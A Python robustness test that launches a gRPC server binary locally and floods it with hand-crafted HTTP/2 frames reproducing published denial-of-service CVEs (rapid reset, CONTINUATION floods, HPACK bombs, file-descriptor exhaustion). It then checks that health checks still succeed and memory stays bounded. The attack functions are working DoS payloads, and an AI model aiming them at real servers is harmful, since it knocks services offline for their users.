#!/usr/bin/env python3
"""Attacks a gRPC port as strangers would, with hand-made HTTP/2 frames, over plain TCP and over TLS: what aborts,
starves or fills Debian's gRPC 1.51 (docs/threat-model.md lists the CVEs). After each attack a fresh client must get
an answer to a health check, and the server's memory must have stayed within a bound.

    grpc_abuse.py SERVER_BINARY [NAME...]
"""

import contextlib
import json
import os
import resource
import select
import socket
import ssl
import struct
import subprocess
import sys
import time

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
MIB = 1 << 20
ANSWER_WITHIN = 10  # seconds, for a health check under and after an attack
FEW_FILES = 128


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def integer(value, bits, first=0):
    """An integer of RFC 7541 §5.1."""
    limit = (1 << bits) - 1
    if value < limit:
        return bytes([first | value])
    out, value = [first | limit], value - limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + [value])


def header(name, value, first=0):
    """A literal header field without indexing (first=0x40: with), no Huffman code."""
    name, value = name.encode(), value if isinstance(value, bytes) else value.encode()
    return bytes([first]) + integer(len(name), 7) + name + integer(len(value), 7) + value


def request(method=":method", path="/grpc.health.v1.Health/Check", scheme="http", te="trailers"):
    return (
        header(method, "POST") + header(":scheme", scheme) + header(":path", path) + header(":authority", "localhost")
        + header("content-type", "application/grpc") + header("te", te)
    )  # fmt: skip


class Gone(Exception):
    """The server closed the connection."""


class Client:
    """An HTTP/2 connection that keeps no rule but the preface."""

    def __init__(self, port, tls, preface=True):
        self.port, self.tls = port, tls
        self.raw = self.socket = socket.create_connection(("127.0.0.1", port), timeout=ANSWER_WITHIN)
        if tls:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            context.set_alpn_protocols(["h2"])
            self.socket = context.wrap_socket(self.raw)
        self.buffer = b""
        if preface:
            self.send(PREFACE + frame(SETTINGS, 0, 0))

    def send(self, data):
        try:
            self.socket.sendall(data)
        except (ConnectionError, ssl.SSLError, socket.timeout) as error:
            raise Gone from error

    def frames(self, until):
        """Frames as they come, until a deadline of the monotonic clock."""
        while True:
            while len(self.buffer) >= 9:
                size = int.from_bytes(self.buffer[:3], "big")
                if len(self.buffer) < 9 + size:
                    break
                head, payload = self.buffer[:9], self.buffer[9 : 9 + size]
                self.buffer = self.buffer[9 + size :]
                yield head[3], head[4], int.from_bytes(head[5:9], "big"), payload
            left = until - time.monotonic()
            if left <= 0:
                return
            self.socket.settimeout(left)
            try:
                data = self.socket.recv(65536)
            except socket.timeout:
                return
            except (ConnectionError, ssl.SSLError):
                raise Gone from None
            if not data:
                raise Gone
            self.buffer += data

    def wait_for(self, kind, ack=False):
        for got, flags, _, _ in self.frames(time.monotonic() + ANSWER_WITHIN):
            if got == kind and bool(flags & ACK) == ack:
                return
        raise AssertionError(f"no frame of type {kind} within {ANSWER_WITHIN} s")

    def drain(self):
        """Throws away what has arrived, so that a flood is not held up by its own answers."""
        self.socket.setblocking(False)
        with contextlib.suppress(BlockingIOError, ssl.SSLWantReadError, ConnectionError, ssl.SSLError):
            while self.socket.recv(65536):
                pass
        self.socket.settimeout(ANSWER_WITHIN)
        self.buffer = b""

    def settle(self):
        """Waits until the server has taken everything that was sent: it answers a ping, or has hung up."""
        with contextlib.suppress(Gone):
            self.send(frame(PING, 0, 0, b"settled?"))
            self.wait_for(PING, ack=True)

    def again(self, data):
        """Sends on a new connection to the same port, and waits until the server has taken it."""
        with contextlib.closing(Client(self.port, self.tls)) as client:
            with contextlib.suppress(Gone):
                client.wait_for(SETTINGS)
                client.send(data)
            client.settle()

    def close(self):
        self.socket.close()


class Server:
    def __init__(self, binary, files=None):
        limit = (lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (files, files))) if files else None
        self.process = subprocess.Popen(
            [binary], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, preexec_fn=limit
        )
        self.ports = json.loads(self.process.stdout.readline())
        os.set_blocking(self.process.stderr.fileno(), False)

    def alive(self):
        return self.process.poll() is None

    def memory(self):
        with open(f"/proc/{self.process.pid}/statm", encoding="ascii") as file:
            return int(file.read().split()[1]) * resource.getpagesize()

    def open_files(self):
        return len(os.listdir(f"/proc/{self.process.pid}/fd"))

    def check(self, kind):
        """Seconds until a new client's health check said SERVING."""
        start = time.monotonic()
        with contextlib.closing(Client(self.ports[kind], kind == "tls")) as client:
            client.send(
                frame(HEADERS, END_HEADERS, 1, request()) + frame(DATA, END_STREAM, 1, b"\x00\x00\x00\x00\x00")
            )
            for got, _, _, payload in client.frames(start + ANSWER_WITHIN):
                if got == DATA and payload == b"\x00\x00\x00\x00\x02\x08\x01":
                    return time.monotonic() - start
        raise AssertionError(f"no answer to a health check within {ANSWER_WITHIN} s")

    def stop(self):
        self.process.stdin.close()
        try:
            status = self.process.wait(timeout=30)
        except subprocess.TimeoutExpired:
            self.process.kill()
            self.process.wait()
            raise AssertionError("the server did not drain within 30 s") from None
        if status != 0:
            errors = (self.process.stderr.read() or b"")[-2000:].decode(errors="replace")
            raise AssertionError(f"the server ended with status {status}: {errors}")


def oversized(client, *fields):
    """CVE-2023-1428: certain headers, then one that takes the whole past a limit: in one frame, in several, and as
    trailers. Each on a connection of its own, since each may end it."""
    fields = b"".join(fields)
    for size in (5000, 7900, 8192, 9000, 15000, 100_000):
        for first in (0x00, 0x40):
            block = request() + fields + header("x-filler", "f" * size, first)
            pieces = [block[i : i + 16000] for i in range(0, len(block), 16000)]
            if len(pieces) == 1:
                client.again(frame(HEADERS, END_HEADERS | END_STREAM, 1, block))
                client.again(frame(HEADERS, END_HEADERS, 1, request()) + frame(HEADERS, END_HEADERS | END_STREAM, 1, block))
                pieces = [block[:100], block[100:]]
            split = frame(HEADERS, 0, 1, pieces[0])
            for piece in pieces[1:]:
                split += frame(CONTINUATION, END_HEADERS if piece is pieces[-1] else 0, 1, piece)
            client.again(split)


def bad_te(client):
    oversized(client, header("te", "x"))


def bad_scheme(client):
    oversized(client, header(":scheme", "x"))


def bad_method(client):
    oversized(client, header(":method", "x"))


def grpclb_client_stats(client):
    oversized(client, header("grpclb_client_stats", "x"))


def bad_values(client):
    """Values that parsers may trip over, one request each, sane in size (CVE-2023-32732: base64 errors in -bin headers)."""
    stream = 1
    for name, value in [
        ("x-bin", "!!!"), ("x-bin", "A"), ("x-bin", b"\x00\xff"), ("grpc-timeout", "99999999999H"),
        ("grpc-timeout", "-1S"), ("grpc-encoding", "x"), ("grpc-status", "-1"), ("grpc-trace-bin", "AAAA"),
        ("grpc-tags-bin", "////"), ("lb-cost-bin", "AA"), ("grpc-retry-pushback-ms", "x"), ("content-length", "-5"),
        ("grpc-previous-rpc-attempts", "4294967296"), ("host", "x"), (":authority", ""), (":path", "no-slash"),
        (":status", "x"), ("", "x"), ("X-UPPER", "x"), ("x\x00y", "x"), ("user-agent", b"\xff" * 100),
        ("grpc-server-stats-bin", "A="), ("x-envoy-peer-metadata", "x"), ("grpc-internal-encoding-request", "x"),
        ("grpc-accept-encoding", "x,,y" * 100),
    ]:  # fmt: skip
        client.send(frame(HEADERS, END_HEADERS, stream, request() + header(name, value)))
        client.send(frame(DATA, END_STREAM, stream, b"\x00\x00\x00\x00\x00"))
        stream += 2


def endless_string(client):
    """CVE-2023-33953: a string that claims to be 1 GiB, and a part of it in CONTINUATION frames."""
    client.send(frame(HEADERS, 0, 1, request() + b"\x00\x01x" + integer(1 << 30, 7)))
    for _ in range(2000):
        client.send(frame(CONTINUATION, 0, 1, b"y" * 16384))


def endless_integer(client):
    """CVE-2023-33953: an integer of zeros without end."""
    client.send(frame(HEADERS, 0, 1, request() + b"\x00\x7f"))
    for _ in range(200):
        client.send(frame(CONTINUATION, 0, 1, b"\x80" * 16384))


def endless_headers(client):
    """CVE-2023-33953: each frame is within the limit, their number is not."""
    client.send(frame(HEADERS, 0, 1, request()))
    block = header("x-filler", "f" * 7000)
    for _ in range(40_000):
        client.send(frame(CONTINUATION, 0, 1, block))


def indexed_bomb(client):
    """Thousands of one-byte references to one large field of the table, on many streams."""
    client.send(frame(HEADERS, END_HEADERS, 1, request() + header("x-filler", "f" * 3900, 0x40)))
    block = request() + b"\xbe" * 16000
    for stream in range(3, 2003, 2):
        client.send(frame(HEADERS, END_HEADERS, stream, block))
        if stream % 100 == 3:
            client.drain()


def table_churn(client):
    """The dynamic table resized without end."""
    block = (b"\x3f\xe1\x1f" + b"\x20") + request()
    stream = 1
    for _ in range(2000):
        client.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, block))
        client.drain()
        stream += 2


def rapid_reset(client):
    """CVE-2023-44487: streams opened and reset at once."""
    block = request()
    stream = 1
    for _ in range(300):
        burst = b""
        for _ in range(100):
            burst += frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
            stream += 2
        client.send(burst)
        client.drain()


def many_streams(client):
    """More streams at once than the server allows, by a client that has acknowledged the limit."""
    client.send(frame(SETTINGS, ACK, 0))
    endless_streams(client)


def endless_streams(client):
    """The same by a client that never acknowledges it: gRPC then knows no limit."""
    block = request()
    for stream in range(1, 60_001, 2):
        client.send(frame(HEADERS, END_HEADERS, stream, block))
        if stream % 500 == 1:
            client.drain()


def control_floods(client):
    """SETTINGS and PING whose answers nobody reads."""
    for _ in range(50):
        client.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 500)
    for _ in range(50):
        client.send(frame(PING, 0, 0, b"12345678") * 500)


def ping_flood(client):
    """Pings while a call is open, by a client that reads: one is allowed every 10 seconds."""
    watch = request(path="/grpc.health.v1.Health/Watch")
    client.send(frame(HEADERS, END_HEADERS, 1, watch) + frame(DATA, END_STREAM, 1, bytes(5)))
    client.wait_for(DATA)
    client.send(frame(PING, 0, 0, b"12345678") * 10)
    client.wait_for(GOAWAY)


def huge_message(client):
    """A message that claims 4 GiB."""
    client.send(frame(HEADERS, END_HEADERS, 1, request()) + frame(DATA, 0, 1, b"\x00\xff\xff\xff\xff" + b"x" * 1000))


def broken_frames(client):
    """Frames that no rule allows."""
    client.send(frame(DATA, 0, 0, b"x") + frame(HEADERS, 0x2C, 1, b"\xff" * 50) + frame(0x77, 0xFF, 0x7FFFFFFF, b"?" * 99))
    client.send(frame(CONTINUATION, 0, 5, b"x") + b"\xff" * 100_000)


ATTACKS = [
    bad_te, bad_scheme, bad_method, grpclb_client_stats, bad_values, endless_string, endless_integer, endless_headers,
    indexed_bomb, table_churn, rapid_reset, many_streams, endless_streams, control_floods, ping_flood, huge_message,
    broken_frames,
]  # fmt: skip


def attack(binary, kind, assault):
    server = Server(binary)
    try:
        server.check(kind)
        before = server.memory()
        start = time.monotonic()
        with contextlib.closing(Client(server.ports[kind], kind == "tls")) as client:
            with contextlib.suppress(Gone):
                client.wait_for(SETTINGS)
                assault(client)
            lasted = time.monotonic() - start
            during = server.check(kind)
            client.settle()
            grown = (server.memory() - before) / MIB
        after = server.check(kind)
        assert grown < 128, f"the server grew by {grown:.0f} MiB"
        return (
            f": {lasted:.2f} s, memory {grown:+.1f} MiB, answers within {during * 1000:.0f} ms during, "
            f"{after * 1000:.0f} ms after"
        )
    finally:
        server.stop()


def garbage(binary, kind):
    """Bytes that are neither TLS nor HTTP/2, and half a handshake."""
    server = Server(binary)
    try:
        for junk in (b"GET / HTTP/1.1\r\n\r\n", os.urandom(5000), b"\0" * 5000, PREFACE[:10], b"\x16\x03\x01\xff\xff\x01"):
            with contextlib.closing(Client(server.ports[kind], tls=False, preface=False)) as client:
                with contextlib.suppress(Gone):
                    client.send(junk)
        server.check(kind)
    finally:
        server.stop()


def no_files_left(binary, kind):
    """CVE-2023-4785: connections until the server has no file descriptor left; then it must accept again."""
    server = Server(binary, FEW_FILES)
    try:
        server.check(kind)
        held = []
        for _ in range(3 * FEW_FILES):
            with contextlib.suppress(OSError):
                held.append(socket.create_connection(("127.0.0.1", server.ports[kind]), timeout=ANSWER_WITHIN))
        # The server has taken all that it can when nothing waits for it any more.
        deadline = time.monotonic() + ANSWER_WITHIN
        while server.open_files() < FEW_FILES // 2 and time.monotonic() < deadline:
            select.select([], [], [], 0.01)
        for connection in held:
            connection.close()
        deadline = time.monotonic() + ANSWER_WITHIN
        while True:
            try:
                server.check(kind)
                break
            except (Gone, OSError):
                assert time.monotonic() < deadline, "the server accepts no more after it ran out of files"
    finally:
        server.stop()


def main():
    binary, names = sys.argv[1], sys.argv[2:]
    failures = 0
    runs = [(assault.__name__, lambda kind, a=assault: attack(binary, kind, a)) for assault in ATTACKS]
    runs += [(test.__name__, lambda kind, t=test: t(binary, kind)) for test in (garbage, no_files_left)]
    for name, run in runs:
        if names and name not in names:
            continue
        for kind in ("plain", "tls"):
            try:
                summary = run(kind) or ""
                print(f"{kind:5} {name:20} held{summary}", flush=True)
            except (AssertionError, Gone, OSError) as error:
                failures += 1
                print(f"{kind:5} {name:20} FAILED: {error!r}", flush=True)
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
